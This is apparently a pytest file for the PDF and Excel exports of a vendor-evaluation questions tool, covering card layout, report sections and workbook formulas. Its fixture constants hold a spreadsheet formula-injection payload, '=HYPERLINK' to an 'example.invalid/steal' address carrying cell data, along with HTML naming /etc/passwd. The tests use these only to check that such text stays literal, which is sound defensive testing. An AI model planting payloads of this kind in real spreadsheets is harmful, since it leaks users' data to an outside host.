"""The questions tool on paper: the question card, the Blueprint section and the workbook."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess

import pdfplumber
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from exports import pdf
from exports import questions as eq
from tests.helpers import member
from toolkit import questions as qs

DAY = dt.date(2026, 12, 9)
HOSTILE = 'S&P <b>bold</b> <img src="/etc/passwd"/> =HYPERLINK("http://x","y")'
FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")'


@pytest.fixture(scope="module")
def ten() -> qs.QuestionsFile:
    return qs.load_questions()


@pytest.fixture(scope="module")
def riverton(ten) -> eq.QuestionsSection:
    return eq.QuestionsSection(qs.demo_document("riverton"), ten)


def _text(data: bytes) -> str:
    with pdfplumber.open(io.BytesIO(data)) as doc:
        return "\n".join(page.extract_text() or "" for page in doc.pages)


def _flat(text: str) -> str:
    # One line of words, without the page footers that can fall inside a paragraph.
    return " ".join(re.sub(r"(?m)^Test Page \d+ of \d+$", "", text).split())


def _section_pdf(s: eq.QuestionsSection) -> bytes:
    meta = pdf.Meta(title="Questions", author="Test", subject="Test", footer="Test")
    return pdf.render(meta, cover=[], body=eq.section(s, 3, "Ten tech questions"))


def _card(plan: qs.QuestionsPlan, ten) -> bytes:
    meeting = plan.meetings[0]
    return eq.question_card_pdf(meeting, qs.meeting_questions(plan, meeting, ten))


def _hostile_plan(ten) -> qs.QuestionsPlan:
    own = qs.CustomQuestion(id="c-evil", text=FORMULA)
    meeting = qs.Meeting(id="m1", title=HOSTILE, project=HOSTILE,
                         question_ids=["exit_plan", "c-evil"])
    person = qs.Respondent(id="r1", name=HOSTILE, meeting_id="m1")
    answers = [qs.Answer(respondent_id="r1", question_id="exit_plan", score=0, notes="=1+2",
                         custom_flags=[HOSTILE]),
               qs.Answer(respondent_id="r1", question_id="c-evil", score=1)]
    return qs.QuestionsPlan(meetings=[meeting], custom_questions=[own], respondents=[person],
                            answers=answers)


# --- the question card --------------------------------------------------------------------


def test_the_demo_question_card_is_one_page_with_every_question_in_order(riverton, ten):
    data = _card(riverton.plan, ten)
    assert len(PdfReader(io.BytesIO(data)).pages) == 1
    # The score boxes (0 1 2 3) sit on each question's first line; read around them.
    text = _flat(_text(data)).replace(" 0 1 2 3", "")
    meeting = riverton.plan.meetings[0]
    asked = qs.meeting_questions(riverton.plan, meeting, ten)
    positions = [text.index(f"{q.position}. {q.text}") for q in asked]
    assert positions == sorted(positions)
    assert meeting.title in text and "Who we asked:" in text


def test_a_full_card_of_twelve_questions_is_still_one_page(ten):
    own = [qs.CustomQuestion(id=f"c-{i}", text="Which residents on the East Side have seen "
                             "the plan, and what did they ask you to change before you signed? "
                             * 2) for i in range(2)]
    meeting = qs.Meeting(title="Full card", question_ids=[*(q.id for q in ten.questions),
                                                          "c-0", "c-1"])
    plan = qs.QuestionsPlan(meetings=[meeting], custom_questions=own)
    data = _card(plan, ten)
    assert len(PdfReader(io.BytesIO(data)).pages) == 1
    assert _flat(_text(data)).count("Which residents on the East Side") == 4


def test_the_card_uses_large_type_for_a_ten_question_meeting(ten):
    meeting = qs.new_meeting(ten, title="Pitch", audience="vendor")
    data = _card(qs.QuestionsPlan(meetings=[meeting]), ten)
    with pdfplumber.open(io.BytesIO(data)) as doc:
        words = doc.pages[0].extract_words(extra_attrs=["size"])
    question_words = [w for w in words if w["text"] == "cost"]  # from question 9
    assert question_words and min(w["size"] for w in question_words) >= 12


def test_the_card_has_a_title_and_a_language_for_screen_readers(riverton, ten):
    reader = PdfReader(io.BytesIO(_card(riverton.plan, ten)))
    assert reader.metadata.title == "Question card: Gunshot detection and case management pitches"
    assert reader.trailer["/Root"]["/Lang"] == "en-US"


def test_the_card_prints_hostile_text_literally(ten):
    text = _flat(_text(_card(_hostile_plan(ten), ten)))
    assert text.count('S&P <b>bold</b> <img src="/etc/passwd"/>') >= 2  # title and project
    assert '"Click")' in text


def test_the_same_meeting_gives_the_same_card_bytes(riverton, ten):
    assert _card(riverton.plan, ten) == _card(riverton.plan, ten)


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler-utils is not installed")
def test_the_card_renders_to_an_image_that_is_not_blank(riverton, ten, tmp_path):
    source = tmp_path / "card.pdf"
    source.write_bytes(_card(riverton.plan, ten))
    subprocess.run(["pdftoppm", "-r", "30", "-gray", str(source), str(tmp_path / "p")],
                   check=True)
    (image,) = sorted(tmp_path.glob("p*.pgm"))
    pixels = image.read_bytes().split(b"\n", 3)[3]
    assert sum(1 for b in pixels if b < 128) > 2000


# --- the Blueprint section ------------------------------------------------------------------


def test_the_section_shows_the_prepared_questions_comparison_chart_and_findings(riverton):
    text = _flat(_text(_section_pdf(riverton)))
    for expected in (
        "3. Ten tech questions",
        "Meeting: Gunshot detection and case management pitches",
        "Key findings",
        "Strongest: Cobalt Case Systems, 25 of 33 points",
        "Questions prepared",
        "reworded",
        "Our own question",
        "Comparison",
        "Lumen Ridge Acoustics",
        "Riverton Department of Technology",
        "Points by respondent",
        "Chart in words: Cobalt Case Systems, 25 of 33 points; Riverton Department of "
        "Technology, 12 of 21 points; Lumen Ridge Acoustics, 8 of 27 points.",
        "What to ask next",
        "What is the worst mistake",
    ):
        assert expected in text, expected


def test_the_section_has_bookmarks_for_its_headings(riverton):
    reader = PdfReader(io.BytesIO(_section_pdf(riverton)))

    def walk(items):
        for item in items:
            yield from walk(item) if isinstance(item, list) else [item.title]

    titles = list(walk(reader.outline))
    assert titles[:3] == ["3. Ten tech questions",
                          "Meeting: Gunshot detection and case management pitches",
                          "Key findings"]


def test_the_section_prints_hostile_text_literally(ten):
    text = _flat(_text(_section_pdf(eq.QuestionsSection(_hostile_plan(ten), ten))))
    assert f"Meeting: {HOSTILE}" in text
    assert text.count('<img src="/etc/passwd"/>') >= 3
    assert "steal?d=" in text


def test_a_team_that_has_not_started_the_tool_gathers_as_not_started(store, teams):
    team = teams["lakeport"]
    s = eq.gather(store, member(team), team.id, DAY)
    assert not s.started and s.comparisons == []


def test_the_section_reads_back_what_the_team_saved(store, teams, ten):
    team = teams["mesa-verde"]
    plan = qs.QuestionsPlan(meetings=[qs.new_meeting(ten, title="Bus tracker pitch",
                                                     audience="vendor")])
    store.save(member(team), team.id, plan, base_version=0)
    s = eq.gather(store, member(team), team.id, DAY)
    assert s.started
    text = _flat(_text(_section_pdf(s)))
    assert "Meeting: Bus tracker pitch" in text
    assert "No one has been asked these questions yet." in text
    assert "Comparison" not in text


def test_fifty_respondents_lay_out_in_narrow_tables_and_a_limited_chart(ten):
    ids = [q.id for q in ten.questions]
    people = [qs.Respondent(id=f"r{i}", name=f"Vendor {i:02d}", meeting_id="m1")
              for i in range(50)]
    answers = [qs.Answer(respondent_id=f"r{i}", question_id=q, score=(i + j) % 4)
               for i in range(49) for j, q in enumerate(ids)]
    plan = qs.QuestionsPlan(meetings=[qs.Meeting(id="m1", title="Open call", question_ids=ids)],
                            respondents=people, answers=answers)
    s = eq.QuestionsSection(plan, ten)
    flow = eq.section(s, 3, "Ten tech questions")
    headers = [f._cellvalues[0] for f in flow if hasattr(f, "_cellvalues")]
    matrices = [h for h in headers if h[0].text == "Question"]
    assert len(matrices) == 10 and all(len(h) <= 1 + eq.MATRIX_COLUMNS for h in matrices)
    text = _flat(_text(_section_pdf(s)))
    assert "34 more respondents with lower shares are in the table." in text
    assert "Not shown, because nothing is scored yet: Vendor 49." in text


def test_a_meeting_with_no_questions_says_so(ten):
    plan = qs.QuestionsPlan(meetings=[qs.Meeting(title="Empty")])
    text = _flat(_text(_section_pdf(eq.QuestionsSection(plan, ten))))
    assert "No questions chosen for this meeting yet." in text


# --- the workbook ---------------------------------------------------------------------------


def _book(s: eq.QuestionsSection):
    return load_workbook(io.BytesIO(eq.comparison_xlsx(s)))


def test_the_comparison_workbook_has_a_sheet_for_each_part(riverton):
    wb = _book(riverton)
    assert wb.sheetnames == ["Questions prepared",
                             "Compare Gunshot detection and c",
                             "Answers", "What to ask next", "Key findings"]
    assert wb["Answers"].freeze_panes == "A2"
    assert wb["Compare Gunshot detection and c"].freeze_panes == "C2"


def test_the_comparison_totals_are_live_formulas_that_match_the_app(riverton):
    ws = _book(riverton)["Compare Gunshot detection and c"]
    comparison = riverton.comparisons[0]
    last = len(comparison.questions) + 1
    for j, total in enumerate(comparison.totals):
        col = 3 + 2 * j
        assert ws.cell(1, col).value == f"{total.respondent.name}: score"
        scores = [ws.cell(r, col).value for r in range(2, last + 1)]
        assert sum(s for s in scores if s is not None) == total.points
        assert sum(s is not None for s in scores) == total.scored
        letter = ws.cell(1, col).column_letter
        assert ws.cell(last + 2, col).value == f"=SUM({letter}2:{letter}{last})"
        assert ws.cell(last + 3, col).value == f"=COUNT({letter}2:{letter}{last})"
        assert ws.cell(last + 4, col).value == f"=3*{letter}{last + 3}"


def test_every_answer_and_its_notes_reach_the_workbook(riverton):
    ws = _book(riverton)["Answers"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(riverton.plan.answers)
    lumen_ai = next(r for r in rows if r[1] == "Lumen Ridge Acoustics" and r[3] == 3)
    assert lumen_ai[5] == 0 and lumen_ai[6] == "No answer"
    assert "Would not share false-alert rates from other cities." in lumen_ai[7]
    assert lumen_ai[8].startswith("A model labels each sound")


def test_text_that_looks_like_a_formula_stays_text_in_every_sheet(ten):
    wb = _book(eq.QuestionsSection(_hostile_plan(ten), ten))
    typed = [cell for ws in wb for row in ws.iter_rows() for cell in row
             if cell.value in (FORMULA, "=1+2")]
    # The own question appears in every sheet that lists questions; the notes in Answers.
    assert len(typed) >= 5
    assert all(cell.data_type == "s" for cell in typed)
    header = wb.worksheets[1].cell(1, 3)
    assert header.value == f"{HOSTILE}: score" and header.data_type == "s"


def test_an_empty_plan_gives_a_workbook_that_says_so(ten):
    wb = _book(eq.QuestionsSection(qs.QuestionsPlan(), ten))
    assert wb["Questions prepared"]["A2"].value == "No meeting has been prepared yet."
